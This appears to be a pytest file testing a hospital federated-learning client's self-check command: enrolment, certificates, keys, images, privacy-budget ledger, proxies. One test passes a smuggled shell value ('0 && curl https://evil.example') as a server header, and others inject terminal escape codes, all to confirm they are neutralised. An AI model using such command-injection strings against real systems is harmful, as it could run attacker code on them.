"""`flower-client check` on a whole hospital, with and without a server, right and wrong."""

import socket

import numpy as np
import pytest
import torch
from flwr.proto.fleet_pb2 import ActivateNodeResponse
from PIL import Image

import client.provisioning.dry_step
from client.deployment.hospital_folder import HospitalFolder
from client.ledger.ledger import Ledger
from client.provisioning import standing
from client.provisioning.checks import check_hospital, guarded
from client.provisioning.checks_of_study import show_images
from client.provisioning.code_list import accept, withdraw
from client.provisioning.new_hospital import make_hospital
from common.bundle.bundle import bundle_sha256
from common.checks import Check, CheckState, exit_code
from common.config import PublicPlan
from common.enrolment import Enrolment
from common.errors import FederationError
from common.flower_programs import free_port
from common.hospital_config import (
    ConnectionConfig,
    DataConfig,
    HospitalConfig,
    HospitalSection,
    PolicyConfig,
    SiteConfig,
)
from common.messages import SCHEMA_VERSION, RoundKey
from common.privacy.plan import PrivacyEvent
from common.settings import parse, to_toml
from tests.client.certificates import Authority
from tests.client.small_servers import http_answer, tls_server

CLASSES = ("normal", "opacity")
ACTIVATED = ActivateNodeResponse(node_id=7).SerializeToString()


@pytest.fixture(scope="module")
def authority():
    return Authority()


@pytest.fixture
def films(tmp_path):
    folder = tmp_path / "films"
    for number in range(8):
        path = folder / CLASSES[number % 2] / f"film-{number}.png"
        path.parent.mkdir(parents=True, exist_ok=True)
        pixels = np.random.default_rng(number).integers(0, 256, (12, 12), dtype=np.uint8)
        Image.fromarray(pixels).save(path)
    return folder


@pytest.fixture
def north(tmp_path, films):
    """A hospital as `init` makes it; with noise given, because solving for it takes seconds."""
    config = HospitalConfig(
        hospital=HospitalSection(name="north", enrolled_patients=120),
        data=DataConfig(path=str(films)),
        policy=PolicyConfig(mode="fixed", noise_multiplier=2.0),
        site=SiteConfig(ledger="ledger", device="cpu", threads=1),
        connection=ConnectionConfig(runtime_port=free_port(), health_port=free_port()),
    )
    return make_hospital(tmp_path / "north", config)


def enrol(north, authority, *, port=1, **changes):
    values = {
        "federation": "films",
        "hospital": "north",
        "enrolled-patients": 120,
        "fingerprint": north.fingerprint,
        "address": f"127.0.0.1:{port}",
        "release": "0.1.0",
        "wire-schema": SCHEMA_VERSION,
        "bundle-sha256": bundle_sha256(),
        "ca-certificate": authority.pem,
        "plan": {
            "federation": {"rounds": 3},
            "data": {"image-size": 12, "classes": CLASSES},
            "model": {"name": "softmax"},
        },
        **changes,
    }
    enrolment = parse(Enrolment, values, source="test")
    (north.config_file.parent / "enrolment.toml").write_text(to_toml(enrolment))


def look(north):
    checks = check_hospital(HospitalFolder(north.config_file.parent), timeout_s=2)
    return checks, {check.name: check for check in checks}


def edit(north, before, after):
    text = north.config_file.read_text()
    assert before in text
    north.config_file.write_text(text.replace(before, after))


def failed(checks):
    return {check.name for check in checks if check.state is CheckState.FAILED}


def ready_server(tmp_path, authority, *, days=(-1, 100), **headers):
    """Takes any activation, as Flower's server takes that of an enrolled key."""
    certificate, key = authority.issue(tmp_path / "tls", days=days)
    return tls_server(certificate, key, http_answer(200, ACTIVATED, **headers))


def announced(*, release="0.1.0", schema=SCHEMA_VERSION, bundle=None):
    return f"{release};schema={schema};bundle={bundle or bundle_sha256()}"


def test_everything_right_is_all_fine(north, authority, tmp_path):
    with ready_server(tmp_path, authority, x_hospital_federation=announced()) as server:
        enrol(north, authority, port=server.port)
        checks, named = look(north)
    assert failed(checks) == set(), checks
    assert exit_code(checks) == 0
    assert "knows this key" in named["server"].result
    assert "100 more days" in named["certificate"].result or "99 more" in named["certificate"].result
    assert named["release"].result == "0.1.0 here, the server says 0.1.0"
    assert (
        f"hospital-federation/hospital-federation 0.1.0, sha256 {bundle_sha256()}" in named["bundle"].result
    )
    assert named["train images"].result == "8 (normal 4, opacity 4)"
    assert "noise multiplier 2" in named["policy"].result
    assert "private step of softmax on cpu" in named["dry step"].result
    assert named["privacy self-test"].result == "6 checks of every private run pass"
    assert named["proxy"].result == "none: straight out"
    assert not (tmp_path / "north/ledger").exists()  # looking makes no ledger


def test_before_the_enrolment_the_rest_is_shown(north):
    checks, named = look(north)
    assert failed(checks) == {"enrolment", "server"}
    assert "flower-server enroll" in named["enrolment"].result
    assert "hospital.key.pub" in named["server"].fix
    assert "not enrolled yet" in named["key"].result
    assert named["study"].state is CheckState.WARNING
    assert exit_code(checks) == 1


def test_before_the_server_is_up_only_the_network_fails(north, authority):
    enrol(north, authority, port=free_port())
    checks, named = look(north)
    assert failed(checks) == {"server"}
    assert "cannot be reached" in named["server"].result
    assert "said at the enrolment" in named["release"].result
    assert "dry step" in named


def test_another_release_schema_and_bundle_are_named(north, authority, tmp_path):
    other = "c" * 64
    said = announced(release="9.9.9", schema=1, bundle=other)
    with ready_server(tmp_path, authority, x_hospital_federation=said) as server:
        enrol(north, authority, port=server.port)
        checks, named = look(north)
        assert failed(checks) == {"release", "wire schema", "bundle"}
        assert "install release 9.9.9" in named["release"].fix
        # What a person needs to decide: digest, who says what of it, the command. Its publisher is unknown.
        assert other in named["bundle"].result
        assert "not the installed one; its server says that it is release 9.9.9" in named["bundle"].result
        assert "hospital-federation/" not in named["bundle"].result
        assert f"flower-client code accept {other}" in named["bundle"].fix
        accept(tmp_path / "north/state", other, note="told by telephone\x1b[2J")
        checks, named = look(north)
        assert failed(checks) == {"release", "wire schema"}
        assert "accepted as: told by telephone?[2J" in named["bundle"].result


def test_a_server_certificate_about_to_expire_is_a_warning(north, authority, tmp_path):
    with ready_server(tmp_path, authority, days=(-1, 12)) as server:
        enrol(north, authority, port=server.port)
        checks, named = look(north)
    assert named["certificate"].state is CheckState.WARNING
    assert "flower-server renew" in named["certificate"].fix
    assert exit_code(checks) == 0


def test_a_clock_that_is_slightly_off_is_a_warning(north, authority, tmp_path):
    late = "Tue, 01 Jan 2030 12:00:00 GMT"
    with ready_server(tmp_path, authority, Date=late) as server:
        enrol(north, authority, port=server.port)
        _, named = look(north)
    assert named["clock"].state is CheckState.WARNING
    assert "5 s ahead / 305 s behind" in named["clock"].result
    assert "timedatectl" in named["clock"].fix


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"hospital": "south"}, "the enrolment south with 120"),
        ({"enrolled-patients": 100}, "the enrolment north with 100"),
    ],
)
def test_name_and_count_must_be_as_enrolled(north, authority, changes, words):
    enrol(north, authority, port=free_port(), **changes)
    checks, named = look(north)
    assert "enrolment" in failed(checks)
    assert words in named["enrolment"].result


def test_a_key_that_others_can_read_or_is_another_fails(north, authority):
    enrol(north, authority, port=free_port(), fingerprint="SHA256:" + "A" * 43)
    checks, named = look(north)
    assert {"key", "server"} <= failed(checks)
    assert north.fingerprint in named["key"].result
    (north.config_file.parent / "keys/hospital.key").chmod(0o640)
    checks, named = look(north)
    assert "chmod 600" in named["key"].fix
    assert "chmod 600" in named["server"].fix  # nobody signs with it


def test_a_port_in_use_is_named(north, authority):
    config = HospitalFolder(north.config_file.parent).config
    with socket.create_server(("127.0.0.1", config.connection.runtime_port)):
        checks, named = look(north)
    assert "runtime-port" in failed(checks)
    assert f"127.0.0.1:{config.connection.runtime_port} is taken" in named["runtime-port"].result
    assert "connection.runtime-port" in named["runtime-port"].fix


def test_images_of_other_classes_than_the_plan_fail(north, authority):
    plan = PublicPlan.model_validate({"data": {"image-size": 12, "classes": ["cat", "dog"]}})
    enrol(north, authority, port=free_port(), plan=plan.model_dump(mode="json", by_alias=True))
    checks, _ = look(north)
    assert "images" in failed(checks)


def test_own_classes_against_the_plan_are_the_policys(north, authority):
    edit(north, "\nclasses = []", '\nclasses = ["opacity", "normal"]')
    enrol(north, authority, port=free_port())
    checks, named = look(north)
    assert "policy" in failed(checks)
    assert "other classes" in named["policy"].result


def test_bad_images_are_counted_by_reason(north, authority, films):
    (films / "normal" / "torn.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    enrol(north, authority, port=free_port())
    checks, named = look(north)
    assert "skipped in all" in failed(checks)
    assert "max-skipped-share" in named["skipped in all"].fix
    assert any(name.startswith("skipped: ") and "torn.png" in c.result for name, c in named.items())


def test_a_plan_that_the_policy_refuses_is_told_before_the_first_round(north, authority):
    plan = {"federation": {"private": False}, "data": {"image-size": 12, "classes": list(CLASSES)}}
    enrol(north, authority, port=free_port(), plan=plan)
    checks, named = look(north)
    assert "policy" in failed(checks)
    assert "would refuse" in named["policy"].result


def test_a_budget_too_small_for_a_round_says_when_it_is_allowed_again(north, authority):
    edit(north, "\nnoise-multiplier = 2.0", "\nnoise-multiplier = 0.3")
    edit(north, "\nepsilon = 8.0", "\nepsilon = 0.1")
    enrol(north, authority, port=free_port())
    _, named = look(north)
    assert named["policy"].state is CheckState.FAILED
    for words in ("budget of epsilon 0.1", "used: epsilon 0 of the limit 0.1", "asked: ", "would make it"):
        assert words in named["policy"].result
    for words in ("never for these patients", "new patients' data", "larger policy.epsilon"):
        assert words in named["policy"].fix


def charge(folder, *, noise):
    ledger = Ledger.open(folder / "ledger")
    key = RoundKey(run_id="run", attempt=0, round_number=1, model_hash="d" * 64)
    event = PrivacyEvent(sampling_rate=1.0, noise_multiplier=noise, steps=1)
    ledger.charge(key, event=event, cohort=ledger.cohort(["a", "b"]), delta=1e-3)


def test_the_ledger_is_verified_and_its_cost_told(north):
    folder = north.config_file.parent
    charge(folder, noise=5.0)
    _, named = look(north)
    assert named["ledger"].state is CheckState.OK
    assert "1 charge(s)" in named["ledger"].result
    assert "of 8 at delta" in named["ledger"].result
    database = folder / "ledger/ledger.sqlite"
    database.write_bytes(b"x" * 100 + database.read_bytes()[100:])
    checks, _ = look(north)
    assert "ledger" in failed(checks)


def test_a_spent_budget_is_a_warning(north):
    charge(north.config_file.parent, noise=0.3)
    _, named = look(north)
    assert named["ledger"].state is CheckState.WARNING
    assert "nobody trains here any more" in named["ledger"].fix


def test_a_paused_hospital_without_accepted_code_says_both(north):
    state = north.config_file.parent / "state"
    standing.pause(state)
    withdraw(state, bundle_sha256())
    checks, named = look(north)
    assert "pause --off" in named["standing"].fix
    assert "accepted code" in failed(checks)


def test_too_little_memory_for_a_step_names_the_physical_batch(north, authority, monkeypatch):
    def out_of_memory(*_, **__):
        raise torch.OutOfMemoryError("CUDA out of memory. Tried to allocate 2.00 GiB.\nmore")

    monkeypatch.setattr(client.provisioning.dry_step, "train_privately", out_of_memory)
    with pytest.raises(FederationError) as raised:
        client.provisioning.dry_step.dry_step_seconds(
            PublicPlan(), enrolled_patients=10, device=torch.device("cpu")
        )
    assert "physical-batch-size" in str(raised.value)
    assert len(str(raised.value).splitlines()) == 3
    enrol(north, authority, port=free_port())
    checks, _ = look(north)
    assert "dry step" in failed(checks)


def test_a_device_that_is_not_there_is_named(north, authority):
    edit(north, '\ndevice = "cpu"', '\ndevice = "cuda:63"')
    enrol(north, authority, port=free_port())
    checks, named = look(north)
    assert "device" in failed(checks)
    assert "there is no device cuda:63" in named["device"].result


def test_a_check_that_breaks_is_one_failed_line_without_its_words():
    def part():
        yield Check(name="first", state=CheckState.OK, result="fine")
        raise KeyError("DOE^JOHN\x1b[2J")

    fine, broken = guarded("second", part)
    assert (fine.name, broken.name, broken.state) == ("first", "second", CheckState.FAILED)
    assert broken.result == "could not be looked at: KeyError"
    assert broken.fix
    (left_out,) = guarded("third", lambda: 1 / 0)
    assert "ZeroDivisionError" in left_out.result


def test_an_enrolment_of_another_encoding_is_a_failed_line(north):
    (north.config_file.parent / "enrolment.toml").write_bytes(b'federation = "\xff"')
    checks, _ = look(north)
    assert {"enrolment", "server"} <= failed(checks)


def test_a_servers_answer_that_is_a_command_is_no_command(north, authority, tmp_path):
    said = announced(bundle="0 && curl https://evil.example")
    with ready_server(tmp_path, authority, x_hospital_federation=said) as server:
        enrol(north, authority, port=server.port)
        checks, _ = look(north)
    assert "curl" not in repr(checks)


def test_a_password_of_a_proxy_is_not_shown(north, authority):
    edit(north, '\nhttps-proxy = ""', '\nhttps-proxy = "http://doctor:secret@127.0.0.1:1"')
    enrol(north, authority, port=free_port())
    checks, named = look(north)
    assert named["proxy"].result == "http://127.0.0.1:1 (https-proxy)"
    assert "secret" not in repr(checks)


def test_a_hospitals_contact_sheet_is_that_of_its_study(north, authority, tmp_path):
    folder = HospitalFolder(north.config_file.parent)
    assert show_images(folder, tmp_path / "before.html") == 8
    assert "28 x 28" in (tmp_path / "before.html").read_text()
    plan = {
        "data": {"image-size": 12, "classes": CLASSES},
        "model": {"name": "softmax"},
        "preprocessing": {"crop": "centre", "crop-share": 0.75},
    }
    enrol(north, authority, plan=plan)
    assert show_images(folder, tmp_path / "after.html") == 8
    page = (tmp_path / "after.html").read_text()
    assert "12 x 12" in page
    assert "crop-share" in page
